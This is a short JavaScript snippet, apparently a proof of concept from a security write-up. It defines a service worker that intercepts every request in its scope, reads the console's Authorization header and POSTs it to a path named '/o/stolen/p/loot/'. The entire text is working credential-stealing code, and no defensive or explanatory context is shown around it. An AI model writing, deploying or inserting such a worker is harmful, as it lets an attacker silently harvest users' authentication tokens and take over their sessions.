// A service worker that would see every request under its scope, with the
// console's Authorization headers, and send them home.
self.addEventListener("fetch", (event) => {
  const authorization = event.request.headers.get("authorization");
  if (authorization) fetch("/o/stolen/p/loot/", { method: "POST", body: authorization });
});
